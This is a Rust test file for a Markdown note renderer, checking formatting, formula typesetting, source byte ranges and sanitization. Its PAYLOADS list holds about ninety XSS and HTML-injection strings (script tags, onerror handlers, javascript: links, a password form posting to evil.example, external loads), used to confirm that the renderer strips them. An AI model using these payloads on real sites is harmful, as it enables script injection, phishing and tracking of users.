//! Notes as HTML: what is shown, where it comes from, and that nothing in it runs or loads.

use sharper_domain::{Anchor, AnchorKind};

use super::{Reading, render};

fn html(text: &str) -> String {
    render(text, &Reading::default()).html
}

/// Without what says where blocks are from.
fn bare(text: &str) -> String {
    let html = html(text);
    let mut kept = String::new();
    for (place, part) in html.split("<div class=\"block").enumerate() {
        kept.push_str(if place == 0 { part } else { part.split_once('>').expect("an opening tag").1 });
    }
    kept.replace("</div>", "").replace('\n', "")
}

#[test]
fn what_students_write_is_shown() {
    let check = |text: &str, wanted: &str| assert_eq!(bare(text), wanted, "{text}");
    check("# A\n## B\n#### C\n# D", "<h2>A</h2><h3>B</h3><h4>C</h4><h2>D</h2>");
    check("#### Deep first", "<h2>Deep first</h2>");
    check(
        "*a* **b** ~~c~~ `d` ==e==",
        "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code> <mark>e</mark></p>",
    );
    check("- a\n- b\n  1. c", "<ul><li>a</li><li>b<ol start=\"1\"><li>c</li></ol></li></ul>");
    check(
        "- [x] a\n- [ ] b",
        "<ul><li class=\"task\"><span class=\"tick\">☑</span>a</li><li class=\"task\"><span class=\"tick\">☐</span>b</li></ul>",
    );
    check("> a\n\nb", "<blockquote><p>a</p></blockquote><p>b</p>");
    check(
        "|a|\n|-|\n|b<br>c|",
        "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b<br>c</td></tr></tbody></table>",
    );
    check("---\ntitle: x\n---\na", "<p>a</p>");
    check("H<sub>2</sub>O", "<p>H<sub>2</sub>O</p>");
    check("[[Cells|the cell]]", "<p><a rel=\"noopener nofollow noreferrer\">the cell</a></p>");
    check(
        "```rust\nfn a() {}\n```",
        "<pre tabindex=\"0\" dir=\"ltr\"><code><span class=\"code-word\">fn</span> a() {}</code></pre>",
    );
    check("It costs $5 and $6.", "<p>It costs $5 and $6.</p>");
    check("$\\frac{1$ x", "<p><code class=\"tex\" dir=\"ltr\">\\frac{1</code> x</p>");
    check("![A cell](https://pictures.example/cell.png)", "<p>[Picture: A cell]</p>");
    check("![](https://pictures.example/cell.png \"t\")", "<p>[Picture]</p>");
    check(
        "<https://a.example>",
        "<p><a href=\"https://a.example\" rel=\"noopener nofollow noreferrer\">https://a.example</a></p>",
    );
    check("[x](/sign-out)", "<p><a rel=\"noopener nofollow noreferrer\">x</a></p>");
}

#[test]
fn formulas_are_typeset_wherever_they_stand() {
    for text in [
        "$x^2$",
        "$$\nx\n$$",
        "\\(x\\)",
        "\\[x\\]",
        "```math\nx\n```",
        "|a|\n|-|\n|$x$|",
        "- $x$",
        "**$x$**",
        "[$x$](https://a.example)",
    ] {
        assert!(html(text).contains("<math"), "{text}: {}", html(text));
    }
    assert_eq!(html("$a$ $b$ $c$").matches("<math").count(), 3);
}

#[test]
fn a_line_that_was_typed_is_a_line_where_lines_are_kept() {
    let check = |keeps_lines, breaks| {
        let shown = render("Cells:\nmitochondria", &Reading { keeps_lines, ..Reading::default() });
        assert_eq!(shown.html.matches("<br").count(), breaks);
    };
    check(true, 1);
    check(false, 0);
}

#[test]
fn a_heading_that_says_the_title_again_is_not_shown_again() {
    let check = |text: &str, wanted: bool| {
        let shown = render(text, &Reading { title: "Cells", ..Reading::default() });
        assert_eq!(shown.html.contains("<h2>Cells"), wanted, "{text}");
    };
    check("# Cells\n\nThey divide.", false);
    check("They divide.\n\n# Cells", true);
    check("# Cells again", true);
}

#[test]
fn each_block_says_which_bytes_it_comes_from() {
    let check = |text: &str, wanted: &[&str]| {
        let html = html(text);
        let places = html.split("data-from=\"").skip(1).map(|rest| {
            let (from, rest) = rest.split_once("\" data-to=\"").expect("both");
            let to = rest.split('"').next().unwrap_or_default();
            &text[from.parse().expect("a number")..to.parse().expect("a number")]
        });
        assert_eq!(places.collect::<Vec<_>>(), wanted, "{html}");
    };
    check("# Ä b\n\nÖne.\nTwo ü.\n\n- a\n- bé\n", &["# Ä b", "Öne.\nTwo ü.", "a", "bé"]);
    check("> 一二三。\n>\n> four", &["一二三。", "four"]);
    check("|a|\n|-|\n|é|\n\nx", &["|a|\n|-|\n|é|", "x"]);
    check("\ta\tb\n\n1. é\n\n   ü", &["a\tb", "é", "ü"]);
    check("a\u{1F600}", &["a\u{1F600}"]);
    check("", &[]);
}

#[test]
fn a_passage_is_marked_in_every_block_that_holds_some_of_it() {
    let text = "One.\n\nTwo.\n\nThree.";
    let check = |passage: std::ops::Range<usize>, hits: usize, first: Option<&str>| {
        let html = render(text, &Reading { passage: Some(passage), ..Reading::default() }).html;
        assert_eq!(html.matches(" hit\"").count(), hits, "{html}");
        let found =
            html.split("id=\"passage\"").nth(1).and_then(|rest| rest.split("<p>").nth(1)?.split('<').next());
        assert_eq!(found, first);
    };
    check(0..4, 1, Some("One."));
    check(7..14, 2, Some("Two."));
    check(12..18, 1, Some("Three."));
    check(4..6, 0, None);
    check(900..901, 0, None);
}

#[test]
fn blocks_that_nothing_was_made_from_are_counted_and_marked() {
    let text = "# A heading of quite a few more words\n\nThe first of three sentences here.\n\nThe second of three sentences here.\n\nShort.";
    let first = text.find("The first").expect("there")..text.find("sentences").expect("there");
    let covered = [first];
    let shown = render(text, &Reading { covered: Some(&covered), ..Reading::default() });
    assert_eq!((shown.blocks, shown.uncovered), (2, 1));
    assert!(shown.html.contains(" bare\"") && shown.html.contains("aria-label=\"No card yet\""));
    assert!(!html(text).contains("bare"));
}

#[test]
fn pages_of_a_file_are_marked_at_the_block_in_which_they_begin() {
    let text = "One.\n\nTwo.\n\nThree.";
    let anchor = |at, label: &str| Anchor { at, kind: AnchorKind::Page, label: label.to_owned() };
    let anchors = [anchor(0, "1"), anchor(6, "2"), anchor(8, "3"), anchor(12, "<4>")];
    let html = render(text, &Reading { anchors: &anchors, ..Reading::default() }).html;
    let marks: Vec<_> =
        html.split("page-mark\">").skip(1).filter_map(|rest| rest.split("</").next()).collect();
    assert_eq!(marks, ["p. 1", "p. 3", "p. &lt;4&gt;"]);
}

#[test]
fn nesting_without_end_and_text_without_breaks_end() {
    for text in [
        "> ".repeat(3_000),
        "- ".repeat(3_000),
        "[".repeat(20_000),
        "<div>".repeat(5_000),
        "*a ".repeat(8_000),
        "$".repeat(10_000),
        "`".repeat(10_000),
        "|".repeat(5_000),
    ] {
        html(&format!("{text}x"));
    }
}

/// What has been used to make pages run something, and the ways it is hidden in Markdown.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.png\">",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x\"onerror=\"alert(1)](x)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]( javascript:alert(1))",
    "[x](//evil.example)",
    "[x](https://a.example \"t\\\" onmouseover=alert(1) \")",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=\"https://a.example\" onclick=alert(1) target=_blank ping=https://evil.example>x</a>",
    "<a id=main name=main href=\"#main\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<div style=\"background:url(https://evil.example)\">x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video src=x onerror=alert(1)><source src=https://evil.example></video>",
    "<audio src=https://evil.example autoplay></audio>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<textarea></textarea><select><option>x</select>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div hx-get=\"/settings\" hx-trigger=\"load\" hx-on:click=\"alert(1)\">x</div>",
    "<div data-hx-get=/settings data-from=0 data-to=9 data-note=x>x</div>",
    "<p id=\"passage\" class=\"hit primary\" role=\"alert\" aria-live=x tabindex=1>x</p>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<template><script>alert(1)</script></template>",
    "<portal src=https://evil.example></portal>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1) style=x>y</x>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "</div></main><script>alert(1)</script>",
    "</li></ul><h1>x</h1></article></body></html>",
    "<table><tr><td></table><img src=x onerror=alert(1)>",
    "| a |\n|-|\n| <img src=x onerror=alert(1)> |",
    "- <img src=x onerror=alert(1)>\n  - </ul><script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    "    <script>alert(1)</script>",
    "$<img src=x onerror=alert(1)>$",
    "$$\\text{</math><script>alert(1)</script>}$$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\class{x\" onclick=\"alert(1)}{y}$",
    "$\\color{red\" onmouseover=\"alert(1)}{x}$",
    "\\(\\unicode{\"<script>}\\)",
    "```math\n\\text{<img src=x onerror=alert(1)>}\n```",
    "$x$ <var data-tex=\"0\"></var> <var data-tex=\"99\"></var> <var data-tex='0' onclick=x>y</var>",
    "[a](https://a.example \"<var data-tex=&quot;0&quot;></var>\") $\"onclick=alert(1)$",
    "[a](https://a.example/?<var data-tex=\"0\"></var>) $x$",
    "# <script>alert(1)</script>\n\n## <img src=x onerror=alert(1)>",
    "[[javascript:alert(1)|x]]",
    "==<img src=x onerror=alert(1)>==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"https://a.example\u{0}\" onclick\u{0}=alert(1)>x</a>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src='x'/onerror=alert(1)//",
    "<p/onclick=alert(1)>x",
];

/// Every element that may stand in a note, with the attributes it may have.
fn may_stand(element: &str, attribute: &str, value: &str) -> bool {
    let of_math =
        ["math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "mfrac", "msup", "msub"].contains(&element);
    match attribute {
        "class" | "dir" | "tabindex" | "data-from" | "data-to" => !value.contains(['<', '&']),
        "lang" | "title" => true,
        "href" => element == "a" && (value.starts_with("https://a.example") || value.starts_with("mailto:")),
        "rel" => element == "a" && value == "noopener nofollow noreferrer",
        "start" => element == "ol",
        "open" => element == "details",
        "data-tex" => element == "var",
        "display" | "stretchy" | "symmetric" | "mathvariant" | "width" => of_math,
        _ => false,
    }
}

const ELEMENTS: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "details",
    "div",
    "em",
    "h2",
    "h3",
    "li",
    "mark",
    "math",
    "mi",
    "mn",
    "mo",
    "mrow",
    "msub",
    "msup",
    "mtext",
    "mspace",
    "mfrac",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "summary",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "var",
];

#[test]
fn nothing_in_a_note_runs_loads_or_asks_for_anything() {
    assert!(PAYLOADS.len() >= 80);
    for payload in PAYLOADS {
        for text in [
            (*payload).to_owned(),
            format!("Words before {payload} and after.\n\n$y$"),
            format!("> - {payload}"),
        ] {
            let html = html(&text);
            let mut rest = html.as_str();
            while let Some((_, tag)) = rest.split_once('<') {
                rest = tag;
                let name: String =
                    tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
                assert!(ELEMENTS.contains(&name.as_str()), "<{name}> of {text:?}: {html}");
                let mut attributes = tag.trim_start_matches('/')[name.len()..].trim_start();
                while !attributes.starts_with('>') {
                    let (attribute, value) = attributes.split_once("=\"").expect("attributes have quotes");
                    let (value, after) = value.split_once('"').expect("quotes end");
                    assert!(may_stand(&name, attribute, value), "{attribute}={value} of {text:?}: {html}");
                    attributes = after.trim_start();
                }
            }
        }
    }
}
